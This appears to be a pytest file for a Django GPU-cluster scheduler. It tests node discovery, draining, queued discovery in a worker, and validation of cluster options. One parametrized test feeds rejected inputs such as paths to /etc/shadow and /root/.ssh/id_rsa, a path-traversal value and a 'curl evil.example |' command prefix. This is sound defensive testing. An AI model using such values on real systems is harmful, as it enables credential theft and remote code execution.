import json

import pytest
from django.core.management import CommandError, call_command

from budgets.models import GpuType
from scheduling.models import Cluster, Node


@pytest.mark.django_db
def test_register_discovers_nodes_and_prints_the_total(tmp_path, capsys, settings):
    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
    call_command(
        "register_cluster",
        "mars",
        "--backend",
        "simulated",
        "--option",
        "nodes=3",
        "--option",
        "gpu_type=B200",
        "--option",
        f"state_dir={tmp_path}",
    )
    out = capsys.readouterr().out
    assert "mars-00: 8 x B200" in out
    assert "3 nodes, 24 GPUs" in out
    cluster = Cluster.objects.get(name="mars")
    assert cluster.gpu_type == "B200"
    assert list(cluster.nodes.values_list("name", flat=True)) == ["mars-00", "mars-01", "mars-02"]


@pytest.mark.django_db
def test_rediscovery_drains_a_node_that_disappeared(tmp_path, capsys, settings):
    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
    args = [
        "register_cluster",
        "mars",
        "--backend",
        "simulated",
        "--option",
        f"state_dir={tmp_path}",
    ]
    call_command(*args, "--option", "nodes=3")
    call_command(*args, "--option", "nodes=2")
    gone = Node.objects.get(name="mars-02")
    assert (gone.present, gone.drained) == (False, True)
    assert "mars-02: no longer reported; drained" in capsys.readouterr().out
    assert Node.objects.filter(cluster__name="mars").count() == 3


@pytest.mark.django_db
def test_bad_options_and_backends_are_refused_naming_the_field():
    with pytest.raises(CommandError, match="option"):
        call_command("register_cluster", "mars", "--backend", "simulated", "--option", "nodes")
    with pytest.raises(CommandError, match="backend"):
        call_command("register_cluster", "mars", "--backend", "simulated", "--option", "nodes=x")
    assert not Cluster.objects.exists()


def admin_add(admin_client, options: str, **extra):
    return admin_client.post(
        "/admin/scheduling/cluster/add/",
        {
            "name": "venus",
            "backend": "simulated",
            "interactive_pool_gpus": 8,
            "options": options,
            "nodes-TOTAL_FORMS": 0,
            "nodes-INITIAL_FORMS": 0,
            **extra,
        },
        follow=True,
    )


@pytest.mark.django_db
def test_registering_in_the_admin_discovers_the_nodes_in_a_worker_not_the_web_process(
    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks, settings
):
    from scheduling.backends.simulated import SimulatedBackend

    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
    calls = []
    discover = SimulatedBackend.discover_nodes
    monkeypatch.setattr(
        SimulatedBackend, "discover_nodes", lambda self: calls.append(1) or discover(self)
    )
    GpuType.objects.get_or_create(name="B300", defaults={"cost_factor": "2.400"})  # priced
    options = f'{{"nodes": "2", "gpu_type": "B300", "state_dir": "{tmp_path}"}}'
    with django_capture_on_commit_callbacks(execute=False) as queued:
        response = admin_add(admin_client, options)
    assert "discovery queued" in response.content.decode()
    assert calls == []  # the web request asked no backend anything
    cluster = Cluster.objects.get(name="venus")
    assert cluster.nodes.count() == 0
    for callback in queued:  # what the worker does once the transaction committed
        callback()
    assert calls == [1]
    cluster.refresh_from_db()
    assert cluster.gpu_type == "B300"
    assert cluster.nodes.count() == 2
    assert cluster.reachable and cluster.last_error == ""


def test_discovery_runs_with_a_time_limit():
    from scheduling.tasks import discover_cluster

    assert 0 < discover_cluster.soft_time_limit < discover_cluster.time_limit <= 300


@pytest.mark.django_db
def test_a_discovery_that_fails_in_the_worker_is_shown_on_the_cluster(
    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks, settings
):
    from scheduling.backends.base import BackendUnavailable
    from scheduling.backends.simulated import SimulatedBackend

    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)

    def silent(self):
        raise BackendUnavailable("simulated: does not answer")

    monkeypatch.setattr(SimulatedBackend, "discover_nodes", silent)
    with django_capture_on_commit_callbacks(execute=True):
        admin_add(admin_client, f'{{"nodes": "2", "state_dir": "{tmp_path}"}}')
    cluster = Cluster.objects.get(name="venus")
    assert not cluster.reachable and "does not answer" in cluster.last_error
    page = admin_client.get(f"/admin/scheduling/cluster/{cluster.pk}/change/")
    assert "does not answer" in page.content.decode()


@pytest.mark.django_db
def test_the_admin_refuses_options_the_backend_cannot_parse(admin_client, tmp_path):
    response = admin_add(admin_client, '{"nodes": "many"}')
    assert "invalid options" in response.content.decode()
    assert not Cluster.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("backend", "options", "says"),
    [
        ("kubernetes", {"kubeconfig": "/etc/passwd"}, "kubeconfig must be a file inside"),
        ("kubernetes", {"token_file": "{dir}/../../etc/shadow"}, "token_file must be a file"),
        ("kubernetes", {"ca_cert": "relative.crt"}, "ca_cert must be a file"),
        ("slurm", {"slurm_conf": "/root/.ssh/id_rsa"}, "slurm_conf must be a file"),
        ("slurm", {"command_prefix": "sh -c"}, "command_prefix must be an ssh command"),
        ("slurm", {"command_prefix": "curl evil.example |"}, "command_prefix must be an ssh"),
        ("simulated", {"state_dir": "/etc/cron.d"}, "state_dir must be a directory inside"),
    ],
)
def test_file_options_stay_inside_the_configured_directory_and_prefixes_are_ssh(
    admin_client, tmp_path, settings, backend, options, says
):
    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
    options = {k: v.replace("{dir}", str(tmp_path)) for k, v in options.items()}
    response = admin_add(admin_client, json.dumps(options), backend=backend)
    assert says in response.content.decode()
    assert not Cluster.objects.exists()
    with pytest.raises(CommandError, match=says.split(" must")[0]):
        call_command(
            "register_cluster",
            "venus",
            "--backend",
            backend,
            *[f"--option={k}={v}" for k, v in options.items()],
        )


@pytest.mark.django_db
def test_a_file_inside_the_configured_directory_is_accepted(tmp_path, settings):
    from scheduling.discovery import check_options

    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
    check_options("kubernetes", {"kubeconfig": str(tmp_path / "lab.kubeconfig")})
    check_options("slurm", {"command_prefix": "ssh -o BatchMode=yes allot@login"})
